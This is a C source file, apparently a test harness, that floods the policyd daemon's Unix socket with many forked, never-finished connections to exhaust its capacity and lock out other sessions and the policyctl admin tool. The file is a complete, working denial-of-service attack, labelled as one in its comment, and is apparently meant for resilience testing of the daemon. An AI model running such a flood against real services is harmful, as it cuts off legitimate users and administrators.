/* Attack: policyd's connections exhausted from one place, so that every
 * other session (and policyctl) is turned away. Opens as many connections
 * to SOCK (policyd's agent.sock) as it can, from PROCS processes (each up
 * to its own RLIMIT_NOFILE), each connection sending BYTES bytes of a
 * message that never ends (a header announcing 1 MiB: policyd keeps the
 * part until the rest comes), holds them for SECS seconds, then exits.
 * Usage: conn_flood SOCK PROCS BYTES SECS [MAX]: at most MAX connections
 * per process. Prints "held N connections" once they are open (N: how
 * many policyd still had open after the last one, as far as the attacker
 * can tell: connections policyd closed read EOF), then "done".
 * Static or not: policyd sees only sockets. */
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* the wire header: policyd reads the length first (tgp_peek_len) */
#include "../../common/tg_proto.h"
#include "unixconn.h"

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	const char *path = argv[1];
	int procs = atoi(argv[2]);
	size_t bytes = (size_t)atol(argv[3]);
	int secs = atoi(argv[4]);
	struct rlimit nl;
	getrlimit(RLIMIT_NOFILE, &nl);
	int per = nl.rlim_cur > 8300 ? 8192 : (int)nl.rlim_cur - 100;
	if (argc > 5 && atoi(argv[5]) > 0 && atoi(argv[5]) < per)
		per = atoi(argv[5]);
	int pfd[2];
	if (pipe(pfd) < 0)
		return 2;
	for (int p = 0; p < procs; p++) {
		if (fork() != 0)
			continue;
		close(pfd[0]);
		int *fds = calloc((size_t)per, sizeof(int));
		int n = 0;
		while (n < per) {
			int fd = unix_unfinished(path, bytes);
			if (fd < 0)
				break;
			fds[n++] = fd;
		}
		usleep(300000); /* policyd's closes arrive */
		int k = unix_alive(fds, n);
		(void)!write(pfd[1], &k, sizeof(k));
		sleep((unsigned)secs);
		_exit(0);
	}
	close(pfd[1]);
	int total = 0, k;
	for (int p = 0; p < procs; p++)
		if (read(pfd[0], &k, sizeof(k)) == sizeof(k))
			total += k;
	printf("held %d connections\n", total);
	fflush(stdout);
	while (wait(NULL) > 0)
		;
	printf("done\n");
	return 0;
}
